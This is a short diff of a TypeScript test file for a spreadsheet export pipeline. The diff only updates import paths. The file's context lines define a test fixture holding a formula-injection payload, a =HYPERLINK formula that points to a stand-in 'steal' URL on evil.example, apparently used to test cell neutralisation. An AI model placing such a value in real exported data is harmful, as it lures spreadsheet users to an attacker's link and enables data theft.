@@ -6,8 +6,8 @@ import ExcelJS from "exceljs";
 import {DuckDBInstance} from "@duckdb/node-api";
 import {afterAll, beforeAll, describe, expect, it, vi} from "vitest";
 import {exportCommand} from "../../pipelines/commands/export.js";
-import {neutraliseText, toCell} from "../../pipelines/models/export/cells.js";
-import {refreshModels} from "../../pipelines/models/run.js";
+import {neutraliseText, toCell} from "../../pipelines/export/cells.js";
+import {refreshModels} from "../../pipelines/refresh/refresh-models.js";
 import {insertRows, tempWarehouse} from "../models/warehouse-fixture.js";
 
 const evilName = '=HYPERLINK("http://evil.example/steal","点我")';
